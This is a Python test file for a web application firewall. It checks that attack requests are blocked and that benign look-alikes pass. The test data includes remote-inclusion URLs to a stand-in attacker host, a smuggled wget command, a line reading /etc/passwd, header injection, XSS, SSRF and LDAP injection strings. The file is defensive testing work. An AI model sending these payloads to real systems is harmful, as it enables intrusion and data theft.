"""Attack classes the rules were tuned for, each beside the benign look-alike that must pass
(the unpublished sets judge the class, not the CRS test)."""

from __future__ import annotations

import pytest

from tests.filters.waf.conftest import refused_in, run
from wardgate.filters.waf import placements


@pytest.mark.parametrize(
    ("target", "headers"),
    [
        ("/api?x=%0d%0aRemote-addr:%20foo.bar.com", {}),  # header line after CR/LF
        ("/.codex/config.toml", {}),  # AI assistant configuration
        ("/backup/dump.sql", {}),
        ("/", {"Request-Range": "bytes=0-1023"}),
        ("/", {"Content-Type": "text/xml; blah"}),
        ("/run?x=%3Bcscli+alerts+list", {}),
        ("/run?code=time+ifconfig%0A", {}),
        ("/run?x=c99+-wrapper+sh,-c,id", {}),
        ("/run?x=%7B%2Cifconfig%7D", {}),  # {,ifconfig}
        ("/run?x=%7E%2B", {}),  # ~+
        ("/fetch?url=host.docker.internal/", {}),
        ("/", {"X-Target": "localhost4/admin"}),
        ("/q?f=value)(gidNumber%3C%3D100", {}),
        ("/get?x=unix:AAAA|http://example.com/", {}),
        ("/", {"X-Comment": "onmouseover=alert(1)"}),  # a handler opening the value
    ],
)
def test_attack_is_refused(default_waf, target, headers):
    reply, _ = run(default_waf, target, headers=headers)
    assert reply is not None and reply.status == 403, target


@pytest.mark.parametrize(
    ("target", "headers"),
    [
        ("/api/domains/example.com", {}),
        ("/items?fields=%7Bid,name%7D", {}),  # {id,name}
        ("/items?format=lastlog&tag=base64", {}),
        ("/search?q=docker+compose", {}),
        ("/search?q=knife+set&sort=price", {}),
        ("/search?q=python3+tutorial", {}),
        ("/search?q=base64+decode", {}),
        ("/", {"Content-Type": "application/json; charset=utf-8"}),
        ("/", {"Connection": "keep-alive, Upgrade"}),
        ("/", {"Host": "localhost:8080"}),
        ("/files/caf%C3%A9.txt", {}),
        ("/", {"X-Comment": "online shopping = fewer queues"}),
    ],
)
def test_benign_look_alike_passes(default_waf, target, headers):
    reply, _ = run(default_waf, target, headers=headers)
    assert reply is None, [v.rule_id for v in reply.violations] if reply else None


def test_multi_line_text_in_a_body_field_is_not_header_injection(default_waf):
    body = '{"comment": "Thanks!\\nNote: ship on Monday\\nCC: ops"}'
    reply, _ = run(
        default_waf, "/tickets", method="POST", body=body, content_type="application/json"
    )
    assert reply is None


def test_xml_declaration_is_not_xss_but_markup_after_it_is(default_waf):
    declaration = "%3C%3Fxml%20version%3D%221.0%22%3F%3E%3Corder%3E1%3C%2Forder%3E"
    reply, _ = run(default_waf, f"/api/orders?flux={declaration}")
    assert reply is None
    attack = "%3C%3Fxml%20version%3D%221.0%22%3F%3E%3Csvg%20onload%3Dalert(1)%3E"
    reply, _ = run(default_waf, f"/api/orders?flux={attack}")
    assert reply is not None and reply.status == 403


_EVERYWHERE = [p for p in placements.PLACEMENTS if p != "json_key"]


@pytest.mark.parametrize("where", _EVERYWHERE)
@pytest.mark.parametrize(
    "payload",
    [
        "http://evil.example/shell.txt?",  # a trailing ? cuts off the suffix the app appends
        "http://evil.example/c99.txt?cmd=id",  # source text fetched with a query
        "//evil.example/shell.txt?",  # scheme-relative
        "\\\\evil.example\\share\\shell.php",  # a UNC path: PHP on Windows includes it
        "http://203.0.113.9/r57.php",  # a script from an IP host
        "localhost/admin",  # SSRF without a scheme
        "|$u wget http://203.0.113.9/x",  # an unset variable before a command
    ],
)
def test_attack_class_is_refused_in_every_placement(default_waf, payload, where):
    assert refused_in(default_waf, payload, where), (payload, where)


@pytest.mark.parametrize("where", [p for p in _EVERYWHERE if p != "header"])  # no line ends
def test_a_command_whose_argument_ends_the_line_is_refused(default_waf, where):
    assert refused_in(default_waf, "cd /;cd etc;fold passwd\n", where), where


@pytest.mark.parametrize("where", _EVERYWHERE)
@pytest.mark.parametrize(
    "text",
    [
        "http://example.com/index.php?id=5",  # a query after a script is an ordinary link
        "https://bugs.example.org/enter_bug.cgi?product=XCB",
        "https://example.com/docs/",
        "Where is my file?",
        "see the notes; fold the sheet in half",
    ],
)
def test_look_alike_of_those_classes_passes_everywhere(default_waf, text, where):
    assert not refused_in(default_waf, text, where), (text, where)


def test_ascii_malformed_markup_with_a_stray_lead_character_is_refused(default_waf):
    # UTF-8 ¼/¾ read as Latin-1 leave a lead character before the ¾ of the closing tag.
    attack = "var=\\xd0\\xbcscript\\xd0\\xbealert(1)\\xd0\\xbc/script\\xd0\\xbe"
    reply, _ = run(
        default_waf,
        "/post",
        method="POST",
        body=attack,
        content_type="application/x-www-form-urlencoded",
    )
    assert reply is not None and "waf.941310" in [v.rule_id for v in reply.violations]
    unclosed = "var=\\xd0\\xbcscript\\xd0\\xbealert(1)\\xd0\\xbc/script\\xd0"
    reply, _ = run(
        default_waf,
        "/post",
        method="POST",
        body=unclosed,
        content_type="application/x-www-form-urlencoded",
    )
    assert reply is None


def test_a_line_end_in_a_name_counts_only_before_a_header_line(default_waf):
    reply, _ = run(default_waf, "/api?x%0d%0aSet-Cookie:%20a=1")
    assert reply is not None and "waf.921152" in [v.rule_id for v in reply.violations]
    # Code pasted as a JSON key: indented lines and prose with a colon are no header line.
    body = '{"ERROR_TIMEOUT: -3,\\n  ERROR_EXCEPTION: -4,\\n};": 1, "try:\\n    run()\\nexcept E as e:": 2}'
    reply, _ = run(default_waf, "/api", method="POST", body=body, content_type="application/json")
    assert reply is None, [v.rule_id for v in reply.violations] if reply else None


@pytest.mark.parametrize(
    "query",
    [
        "x=a%0d%0aX-Injected:%20yes",  # CR LF before any header line
        "x=a%0aSet-Cookie:%20sid=attacker",  # a bare LF before a response-splitting header
        "x=a%0a%0aHTTP/1.1%20200%20OK",  # a second response
    ],
)
def test_header_injection_in_the_query_is_refused(default_waf, query):
    reply, _ = run(default_waf, f"/api?{query}")
    assert reply is not None and reply.status == 403, query


def test_yaml_pasted_into_a_query_passes(default_waf):
    # Bare line ends before `name: value` are YAML (or a note), not a header line.
    reply, _ = run(default_waf, "/api/search?q=---%0Atype%3A+map%0Adate%3A+Mar+19%2C+2024")
    assert reply is None, [v.rule_id for v in reply.violations] if reply else None
